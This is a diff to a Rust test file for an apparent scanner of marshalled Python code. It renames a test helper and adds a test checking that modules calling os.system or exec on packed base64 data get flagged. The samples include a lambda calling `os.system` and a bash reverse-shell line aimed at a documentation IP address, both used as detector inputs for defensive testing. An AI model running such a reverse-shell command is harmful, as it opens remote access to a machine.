@@ -1,7 +1,7 @@
 use base64::Engine;
 
 use super::*;
-use crate::core::testing::with_ctx;
+use crate::core::testing::with_inspection;
 
 /// `lambda x: __import__('os').system('touch marker') or x` and
 /// `lambda x, k=2: [y**k for y in x] and sum(x, {'a': 1.5, …}['a'])`, marshalled by each Python.
@@ -37,7 +37,7 @@ fn says_what_dangerous_code_reaches_for_and_leaves_tensors_alone() {
         assert!(judge::judge(&read(&harmless).unwrap()).is_none(), "{version}");
         let shown = judge::judge(&read(&dangerous).unwrap()).unwrap().to_string();
         assert!(shown.contains("`system`") && shown.contains("`__import__`"), "{version}: {shown}");
-        with_ctx(|ctx| assert!(inspect(ctx, &dangerous, "test"), "{version}"));
+        with_inspection(|ctx| assert!(inspect(ctx, &dangerous, "test"), "{version}"));
     }
 }
 
@@ -69,4 +69,19 @@ fn nesting_and_damage_end_quietly() {
             }
         }
     }
+}
+
+#[test]
+fn modules_may_do_more_than_functions() {
+    let module = |names: &[&str], texts: &[&str]| Code {
+        name: "<module>".into(),
+        names: names.iter().map(|n| (*n).into()).collect(),
+        texts: texts.iter().map(|t| (*t).into()).collect(),
+        ..Code::default()
+    };
+    assert!(judge::judge_module(&module(&["os", "system", "open", "exec"], &["ls"])).is_none());
+    assert!(judge::judge_module(&module(&["os", "system"], &["bash -i >& /dev/tcp/192.0.2.1/1 0>&1"])).is_some());
+    let packed = "QUJD".repeat(40);
+    assert!(judge::judge_module(&module(&["exec", "b64decode"], &[&packed])).is_some());
+    assert!(judge::judge_module(&module(&["b64decode"], &[&packed])).is_none());
 }
